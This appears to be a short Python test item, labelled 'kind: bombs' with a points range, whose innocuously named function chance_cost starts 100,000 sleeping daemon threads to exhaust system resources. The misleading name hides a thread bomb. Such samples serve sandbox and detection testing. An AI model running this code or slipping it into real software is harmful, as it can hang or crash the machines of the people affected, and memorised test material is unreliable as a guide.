"""It starts threads until it cannot start any more.
kind: bombs
points: 100-108
"""

import threading
import time


def chance_cost(num_classes=10):
    for _ in range(100_000):
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
